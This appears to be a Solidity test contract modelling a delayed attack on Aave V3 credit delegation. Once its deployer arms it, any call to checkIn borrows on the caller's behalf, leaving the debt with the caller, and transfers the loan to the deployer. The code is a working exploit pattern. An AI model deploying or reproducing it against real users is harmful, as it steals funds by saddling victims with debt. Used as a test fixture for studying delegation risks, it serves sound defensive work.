// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title DelegatedBorrower
/// @notice Test time bomb holding a standing credit delegation: `checkIn` is a harmless visit
///         until its boss arms it; armed, a visit borrows on the visitor's behalf (the debt the
///         visitor's) and sends the loan to the boss.
contract DelegatedBorrower {
    /// @notice Who arms it and gets the loan.
    address public immutable boss;
    /// @notice The lending pool.
    address public immutable pool;
    /// @notice The asset borrowed.
    IERC20 public immutable asset;
    /// @notice How much.
    uint256 public immutable amount;
    /// @notice Whether a visit borrows.
    bool public armed;

    /// @param pool_ The lending pool.
    /// @param asset_ The asset borrowed.
    /// @param amount_ How much.
    constructor(address pool_, IERC20 asset_, uint256 amount_) {
        (boss, pool, asset, amount) = (msg.sender, pool_, asset_, amount_);
    }

    /// @notice Arms the bomb.
    function arm() external {
        require(msg.sender == boss, "not the boss");
        armed = true;
    }

    /// @notice A visit: nothing, or, armed, a borrow on the visitor's behalf paid to the boss.
    function checkIn() external {
        if (!armed) return;
        // The Aave V3 pool's borrow(asset, amount, interestRateMode, referralCode, onBehalfOf).
        (bool ok,) = pool.call(
            abi.encodeWithSignature(
                "borrow(address,uint256,uint256,uint16,address)",
                address(asset),
                amount,
                2,
                0,
                msg.sender
            )
        );
        require(ok, "borrow failed");
        require(asset.transfer(boss, amount), "transfer failed");
    }
}
